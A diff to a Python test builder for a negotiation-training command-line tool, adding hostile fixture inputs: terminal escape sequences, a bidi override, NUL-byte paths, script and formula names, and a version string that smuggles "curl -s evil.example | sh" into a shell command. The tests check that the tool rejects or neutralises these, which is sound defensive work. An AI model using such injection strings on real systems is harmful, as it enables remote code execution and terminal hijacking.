@@ -8,8 +8,9 @@ forged games are forged the way a participant would: edit the header, fold the m
 the rules to re-write every digest and the end line, and recompute the header's check, so only
 the chance check can catch them.
 
-Kinds: scenario, replay, pack, save, history, option, report (names in the class report). The
-HTTP requests for `leverage serve` are in `http_requests.json` beside this file.
+Kinds: scenario, lessons (a lesson path file), replay, pack, save, history, option, report
+(names in the class report). The HTTP requests for `leverage serve` are in `http_requests.json`
+beside this file.
 """
 
 from __future__ import annotations
@@ -69,6 +70,40 @@ def _scenario_files(root: Path) -> dict[str, Path]:
         else:
             path.write_text(body, encoding="utf-8")
         out[name] = path
+    # Text that acts on the terminal showing it: an ESC that clears the screen and an OSC that
+    # retitles the window, in the title simulate prints; a bidi override in an option's label.
+    escape = root / "escape-title.toml"
+    escape.write_text(
+        text.replace('title = "The Offer"', 'title = "\\u001b[2J\\u001b]0;pwned\\u0007The Offer"'),
+        encoding="utf-8",
+    )
+    out["escape-title"] = escape
+    bidi = root / "bidi-label.toml"
+    bidi.write_text(text.replace('"$88,000"', '"\\u202e000,88$"'), encoding="utf-8")
+    out["bidi-label"] = bidi
+    # Both BATNAs at 20,000 where every package is worth 0-100: in range for a number, but
+    # every counterpart's belief overflowed and the first move was an IndexError traceback.
+    far = root / "batna-far.toml"
+    far.write_text(
+        _with_batna(text, "20000").replace("batna = { low = 30, high = 44 }", "batna = 20000"),
+        encoding="utf-8",
+    )
+    out["batna-far"] = far
+    # A third role: one line says so, not a line for every option's points keyed by the roles.
+    three = root / "three-roles.toml"
+    three.write_text(
+        text.replace(
+            "[roles.employer]",
+            '[roles.boss]\nname = "Boss"\npublic_brief = "b"\nprivate_brief = "b"\nbatna = 1\n'
+            "\n[roles.employer]",
+        ),
+        encoding="utf-8",
+    )
+    out["three-roles"] = three
+    # Saved by Windows Notepad: a byte-order mark first, and CRLF line ends.
+    notepad = root / "notepad.toml"
+    notepad.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
+    out["notepad"] = notepad
     # BATNAs that validate in shape but overflow a draw: 1e18 fixed, and a 1e18 range.
     batna = root / "batna-1e18.toml"
     batna.write_text(_with_batna(text, "1e18"), encoding="utf-8")
@@ -153,6 +188,8 @@ def _edit_line(source: Path, target: Path, index: int, edit: Callable[[dict], No
 # Participants' names as a person can type them (sim.record.workshop.check_name lets punctuation
 # through): the report must show them as text, never run them.
 HOSTILE_NAMES = ("<script>alert(1)</script>", "=1+2")
+# What a forger writes as the version that recorded a game: printed in advice to install it.
+SHELL_VERSION = "0.0.9'; curl -s evil.example | sh; echo '"
 
 
 def _workshop(root: Path) -> tuple[Path, Path, list[Path]]:
@@ -231,6 +268,17 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
         # A name that clears the trainer's screen, with the check recomputed.
         "name-escape": forge(named, root / "name-escape.jsonl", _set_name("\x1b[2JMallory")),
         "seed-2-63": forge(honest, root / "seed-2-63.jsonl", _set("seed", 2**63), refold=False),
+        # A scenario file named with a NUL byte: os.open's ValueError was a traceback.
+        "source-nul": forge(
+            honest,
+            root / "source-nul.jsonl",
+            lambda h: h.update(scenario="nowhere", scenario_source="/tmp/\x00x.toml"),
+            refold=False,
+        ),
+        # A version that clears the screen when a divergence names it (check recomputed).
+        "version-escape": forge(
+            honest, root / "version-escape.jsonl", _set("app_version", "\x1b[2J9.9")
+        ),
         "source-zero": forge(
             honest,
             root / "source-zero.jsonl",
@@ -269,6 +317,14 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
         ),
     }
     pack_nested = _write_text(root / "pack-nested.toml", "x = " + "[" * 5000 + "]" * 5000)
+    # A pack whose scenario file is named with a NUL byte (the same ValueError, in the pack).
+    pack_nul = _write_text(
+        root / "pack-nul.toml",
+        pack_path.read_text(encoding="utf-8").replace(
+            'scenario = "job-offer"',
+            'scenario = "nowhere"\nscenario_source = "/tmp/\\u0000x.toml"',
+        ),
+    )
     report_folder = root / "class-hostile"
     report_folder.mkdir()
     for game in games:
@@ -283,6 +339,12 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
     lines[0]["app_version"] = "0.0.9"
     lines[0]["check"] = header_check(lines[0])
     _write(chloe, lines)
+    # The same, with a "version" that is a shell command: the report's advice to install the
+    # version that recorded it must not hand the trainer that command to paste.
+    shell = report_folder / ("shell-version-" + games[2].name)
+    lines[0]["app_version"] = SHELL_VERSION
+    lines[0]["check"] = header_check(lines[0])
+    _write(shell, lines)
     # File names a spreadsheet or a terminal would act on.
     (report_folder / "=HYPERLINK(1+1).jsonl").write_text("not a replay\n")
     (report_folder / "\x1b[2Jclear.jsonl").write_text("not a replay\n")
@@ -400,12 +462,105 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             str(s["batna-1e18"]),
         ),
         Case(
+            "simulate-escape-title",
+            "scenario",
+            ("simulate", str(s["escape-title"]), "--games", "1", "--jobs", "1"),
+            2,
+            "title: a control character (U+001B)",
+            str(s["escape-title"]),
+            stdout_lacks=("\x1b",),
+        ),
+        Case(
+            "check-escape-title",
+            "scenario",
+            ("scenario", "check", str(s["escape-title"]), "--games", "1", "--jobs", "1"),
+            2,
+            "control character",
+            str(s["escape-title"]),
+            stdout_lacks=("\x1b",),
+        ),
+        Case(
+            "scenario-bidi-label",
+            "scenario",
+            ("scenario", "validate", str(s["bidi-label"])),
+            2,
+            "label: a control character (U+202E)",
+            str(s["bidi-label"]),
+        ),
+        Case(
+            "simulate-batna-far",
+            "scenario",
+            ("simulate", str(s["batna-far"]), "--games", "3", "--jobs", "1"),
+            2,
+            "batna: expected a BATNA from -100 to 200",
+            str(s["batna-far"]),
+            one_line=False,  # one line a role: both are out of reach
+        ),
+        Case(
+            "scenario-notepad-bom",
+            "scenario",
+            ("scenario", "validate", str(s["notepad"])),
+            0,
+            "notepad.toml: ok",
+            one_line=False,
+        ),
+        Case(
+            "scenario-three-roles",
+            "scenario",
+            ("scenario", "validate", str(s["three-roles"])),
+            2,
+            "roles: expected exactly two roles (got 3)",
+            str(s["three-roles"]),
+        ),
+        Case(
             "scenario-shipped-id",
             "scenario",
             ("scenario", "validate", "job-offer"),
             0,
             "job-offer: ok",
             one_line=False,
+        ),
+        # -- lesson path files: the same safe reader and bounded parsing as a scenario --
+        Case(
+            "lessons-path-fifo",
+            "lessons",
+            ("lessons", "--path", rnd("fifo.toml")),
+            2,
+            "pipe",
+            rnd("fifo.toml"),
+        ),
+        Case(
+            "lessons-validate-zero",
+            "lessons",
+            ("lessons", "validate", rnd("zero.toml")),
+            2,
+            "device",
+            rnd("zero.toml"),
+        ),
+        Case(
+            "lessons-validate-nested",
+            "lessons",
+            ("lessons", "validate", str(s["nested-arrays"])),
+            2,
+            "nested",
+            str(s["nested-arrays"]),
+        ),
+        Case(
+            "lessons-path-bigint",
+            "lessons",
+            ("lessons", "--path", str(s["bigint"])),
+            2,
+            "digits",
+            str(s["bigint"]),
+        ),
+        Case(
+            "lessons-validate-dotted-key",
+            "lessons",
+            ("lessons", "validate", str(s["dotted-key"])),
+            2,
+            "dotted key",
+            str(s["dotted-key"]),
+            seconds=10,
         ),
         # -- replays --
         Case(
@@ -497,6 +652,30 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             str(forged["source-zero"]),
         ),
         Case(
+            "verify-source-nul",
+            "replay",
+            ("replay", "verify", str(forged["source-nul"])),
+            2,
+            "scenario_source: control characters",
+            str(forged["source-nul"]),
+        ),
+        Case(
+            "debrief-source-nul",
+            "replay",
+            ("debrief", str(forged["source-nul"])),
+            2,
+            "scenario_source",
+            str(forged["source-nul"]),
+        ),
+        Case(
+            "verify-version-escape",
+            "replay",
+            ("replay", "verify", str(forged["version-escape"])),
+            2,
+            "app_version: expected a version",
+            str(forged["version-escape"]),
+        ),
+        Case(
             "verify-move-unknown-field",
             "replay",
             ("replay", "verify", str(moves["move-unknown"])),
@@ -560,6 +739,14 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             2,
             "device",
             rnd("zero.toml"),
+        ),
+        Case(
+            "play-pack-source-nul",
+            "pack",
+            ("play", "--pack", str(pack_nul), "--name", "Ada"),
+            2,
+            "not found",
+            str(pack_nul),
         ),
         Case(
             "report-pack-nested",
@@ -651,6 +838,44 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             None,
         ),
         Case("port-zero", "option", ("serve", "--port", "0"), 2, "--port", None),
+        # A file where --save's folder should be: "File exists" named nothing the user could do.
+        Case(
+            "simulate-save-file",
+            "option",
+            ("simulate", "job-offer", "--games", "1", "--jobs", "1", "--save", str(honest)),
+            2,
+            "--save " + str(honest) + ": not a folder",
+            None,
+        ),
+        # Seeds past the largest for the last variant: the line names the bound, not "from 0 up".
+        Case(
+            "pack-seed-past-the-last",
+            "option",
+            (
+                "workshop",
+                "new",
+                "job-offer",
+                "--seed",
+                str(2**63 - 1),
+                "--variants",
+                "2",
+                "--out",
+                rnd("never-written.toml"),
+            ),
+            2,
+            f"seed: expected a whole number from 0 to {2**63 - 3} with 2 variant(s)",
+            None,
+        ),
+        # A file where the workshop folder should be: said before the game, not after it.
+        Case(
+            "play-workshop-file",
+            "option",
+            ("play", "job-offer", "--workshop", str(honest)),
+            2,
+            "not a folder",
+            str(honest),
+            seconds=20,
+        ),
         Case("turn-negative", "option", ("replay", str(honest), "--turn", "-3"), 2, "--turn", None),
         # -- names in the class report --
         Case(
@@ -708,6 +933,16 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             "pip install 'leverage==0.0.9'",
             None,
             one_line=False,
+        ),
+        Case(
+            "report-version-shell",
+            "report",
+            ("workshop", "report", str(report_folder)),
+            0,
+            "app_version: expected a version",
+            None,
+            one_line=False,
+            stdout_lacks=("curl",),
         ),
         Case(
             "report-text-escape",
